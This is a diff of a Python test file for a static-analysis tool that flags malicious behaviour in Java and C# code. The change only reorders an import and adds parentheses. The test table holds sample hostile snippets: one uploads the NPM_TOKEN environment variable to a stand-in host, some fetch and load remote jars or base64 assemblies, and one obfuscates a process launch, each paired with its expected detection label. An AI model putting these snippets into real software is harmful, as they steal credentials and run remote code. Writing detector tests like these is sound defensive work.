@@ -3,6 +3,7 @@
 import base64
 
 import pytest
+from evals.classfile import assemble
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from reading import seen, short
@@ -10,7 +11,6 @@ from reading import seen, short
 from biopsy.model.behaviour import When
 from biopsy.static.clr import assembly
 from biopsy.static.jvm import classfile
-from evals.classfile import assemble
 
 RUN = "process.exec echo a marker"
 B64 = base64.b64encode(b"echo a marker").decode()
@@ -36,8 +36,8 @@ SAID = [
     ("X.java", 'class X { void f() { new URLClassLoader(new URL[]{new URL("http://a.b.c/x.jar")}); } }', "code.flow network > execution"),
     ("X.cs", 'class X { void F() { Process.Start("echo", "a marker"); } }', RUN),
     ("X.cs", 'class X { void F() { var p = new Process(); p.StartInfo.FileName = "echo"; p.Start(); } }', "process.exec echo"),
-    ("X.cs", 'class X { string t; X(string t) { this.t = t; } void S() { new WebClient().UploadString("http://a.b.c", t); }\n'
-     'static void F() { new X(Environment.GetEnvironmentVariable("NPM_TOKEN")).S(); } }', "code.flow env:NPM_TOKEN > network"),
+    ("X.cs", ('class X { string t; X(string t) { this.t = t; } void S() { new WebClient().UploadString("http://a.b.c", t); }\n'
+     'static void F() { new X(Environment.GetEnvironmentVariable("NPM_TOKEN")).S(); } }'), "code.flow env:NPM_TOKEN > network"),
     ("X.cs", 'class X { async void F() { Assembly.Load(Convert.FromBase64String(await new HttpClient().GetStringAsync("http://a.b.c"))); } }',
      "code.flow network > execution"),
     ("X.cs", 'class X { void F() { var s = ""; foreach (var b in new byte[] { 104, 99 }) s += (char)(b ^ 1); Process.Start(s); } }',
